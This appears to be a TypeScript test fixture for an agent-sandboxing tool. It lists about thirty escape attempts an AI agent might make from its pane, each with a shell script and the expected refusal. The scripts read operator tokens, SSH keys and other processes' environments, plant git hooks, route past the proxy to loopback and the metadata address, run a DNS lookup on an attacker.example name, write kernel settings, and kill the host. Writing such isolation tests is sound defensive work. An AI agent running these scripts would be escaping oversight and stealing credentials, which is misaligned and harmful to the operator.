@@ -1,0 +1,170 @@
+/** What an agent tries from inside its pane, and how it shows that it has failed. */
+export interface Attack {
+  readonly name: string;
+  /** A shell script. `$STATE` is the state folder, `$REPOSITORY` the repository, `$OTHER` another agent’s worktree. */
+  readonly script: string;
+  /** What the kernel or the filter answers an isolated agent. */
+  readonly refusal: RegExp;
+  /** What an agent without isolation is answered; in words, why that cannot be tried. */
+  readonly success: RegExp | string;
+}
+
+const gone = /No such file or directory|nonexistent/;
+const readOnly = /Read-only file system/;
+const noFilter = 'there is no filter';
+const byNetwork = 'depends on the network of the machine';
+const asRoot = 'only root can, and it would change the machine';
+
+/** Without isolation the agent runs as the person, and nothing refuses what the person may do. */
+export const attacks: readonly Attack[] = [
+  { name: 'reads the operator’s token', script: 'cat "$STATE"/operator.token', refusal: gone, success: /^\S{20,}\s*$/ },
+  { name: 'reads the database', script: 'head -c 15 "$STATE"/muster.db', refusal: gone, success: /^SQLite format 3/ },
+  { name: 'reads the keys of the bus', script: 'cat "$STATE"/bus.keys', refusal: gone, success: /\S{20}/ },
+  {
+    name: 'plants rules that change the next launch',
+    script: 'echo x > "$STATE"/rules/planted && echo done',
+    refusal: gone,
+    success: /^done/,
+  },
+  { name: 'reads another agent’s worktree', script: 'cat "$OTHER"/a.txt', refusal: gone, success: /^a$/m },
+  { name: 'reads the person’s SSH keys', script: 'cat "$HOME"/.ssh/id_test', refusal: gone, success: /^key/ },
+  {
+    name: 'reads a login beside installed programs',
+    // A sandbox shows the programs and hides the login; a container shows neither.
+    script: 'ls -d "$HOME"/.cargo/bin; wc -c < "$HOME"/.cargo/credentials.toml',
+    refusal: /\.cargo\/bin\n(?:0$|.*Permission denied)|bin': No such file[\s\S]*credentials.*No such file/m,
+    success: /^16$/m,
+  },
+  {
+    name: 'reads the environment of another process',
+    script: 'cat /proc/"$HOST_PID"/environ | head -c 2000',
+    refusal: gone,
+    success: /PATH=/,
+  },
+  {
+    name: 'types into another tmux server',
+    script: 'tmux -u -S "$TMUX_SOCKET" send-keys "# typed" && echo done',
+    refusal: /No such file or directory|no server running|error connecting/,
+    success: /^done/,
+  },
+  {
+    name: 'reaches the bus',
+    script: 'socat /dev/null TCP4:127.0.0.1:"$BUS_PORT" && echo reached',
+    refusal: /Connection refused/,
+    success: /^reached/,
+  },
+  {
+    name: 'reaches a service on 127.0.0.1 that is not granted',
+    script: 'socat /dev/null TCP4:127.0.0.1:"$OTHER_PORT" && echo reached',
+    refusal: /Connection refused/,
+    success: /^reached/,
+  },
+  {
+    name: 'reaches the metadata address',
+    script: 'socat /dev/null TCP4:169.254.169.254:80,connect-timeout=3',
+    refusal: /Network is unreachable/,
+    success: byNetwork,
+  },
+  {
+    name: 'reaches an address past the filter',
+    script: 'socat /dev/null TCP4:192.0.2.1:443,connect-timeout=3',
+    refusal: /Network is unreachable/,
+    success: byNetwork,
+  },
+  {
+    name: 'reaches a refused name through the filter',
+    script: 'curl -sS -m 5 https://refused.example/',
+    refusal: /CONNECT tunnel failed, response 403/,
+    success: noFilter,
+  },
+  {
+    name: 'reaches 127.0.0.1 through the filter by another spelling',
+    script:
+      'for host in 127.1 0x7f000001 [::1] localhost; do curl -sS -m 5 --noproxy "" -x "$HTTPS_PROXY" "https://$host:$OTHER_PORT/"; done',
+    refusal: /(?:response 403[\s\S]*){4}/,
+    success: noFilter,
+  },
+  {
+    name: 'sends a name to the DNS of the network',
+    script: 'getent hosts secret.attacker.example || echo "no name: $?"',
+    refusal: /no name: 2/,
+    success: byNetwork,
+  },
+  {
+    name: 'plants a git hook',
+    script: 'echo x > "$REPOSITORY"/.git/hooks/post-checkout && echo done',
+    refusal: readOnly,
+    success: /^done/,
+  },
+  {
+    name: 'sets fsmonitor in the shared configuration',
+    script: 'git config core.fsmonitor /tmp/x && git config --unset core.fsmonitor && echo done',
+    refusal: readOnly,
+    success: /^done/,
+  },
+  {
+    name: 'leads its worktree to another repository',
+    script: 'cp .git kept; rm -f .git; ls -d .git; echo x > .git && echo done; cp kept .git',
+    refusal: /(?:Device or resource busy|Read-only file system)/,
+    success: /^done/m,
+  },
+  {
+    name: 'leads its worktree to another configuration',
+    script:
+      'd=$(git rev-parse --git-dir); cp "$d"/commondir kept; echo /tmp > "$d"/commondir && echo done; cp kept "$d"/commondir',
+    refusal: readOnly,
+    success: /^done/,
+  },
+  {
+    name: 'moves another branch',
+    script: 'git update-ref refs/heads/other HEAD && echo done',
+    refusal: readOnly,
+    success: /^done/,
+  },
+  {
+    // The folder around what is shown of the repository is the agent's own: what it writes there is nowhere else.
+    name: 'writes into another repository by a symbolic link',
+    script: 'ln -sfn "$REPOSITORY" out && echo x > out/planted.txt; ls "$REPOSITORY"/a.txt && echo done',
+    refusal: /No such file or directory/,
+    success: /^done/m,
+  },
+  { name: 'changes the system', script: 'echo x > /etc/planted', refusal: readOnly, success: asRoot },
+  {
+    name: 'puts a program first on the PATH',
+    script: 'echo x > "$STATE"/bin/planted && echo done',
+    refusal: /Read-only file system|No such file or directory/,
+    success: /^done/,
+  },
+  {
+    name: 'mounts over what it sees',
+    script: 'mount -t tmpfs none /etc',
+    refusal: /permission denied|must be superuser|not permitted/i,
+    success: asRoot,
+  },
+  {
+    name: 'writes to a setting of the kernel',
+    script: 'f=/proc/sys/kernel/core_pattern; now=$(cat $f); echo "$now" > $f',
+    refusal: readOnly,
+    success: asRoot,
+  },
+  {
+    name: 'writes to a setting of the kernel as root of a namespace of its own',
+    script:
+      'unshare -Urm sh -c "mount -o remount,rw,bind /proc/sys; mount -t proc none /tmp; cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern"',
+    refusal: /Read-only file system|Operation not permitted/,
+    success: asRoot,
+  },
+  {
+    name: 'tells the kernel what to do',
+    script: 'test -w /proc/sysrq-trigger || { : > /proc/sysrq-trigger; }',
+    refusal: /Read-only file system|nonexistent|Permission denied/,
+    success: asRoot,
+  },
+  {
+    // The last one, because it ends what it is tried on.
+    name: 'ends muster',
+    script: 'kill -KILL "$HOST_PID" && echo done',
+    refusal: /No such process/,
+    success: /^done/,
+  },
+];
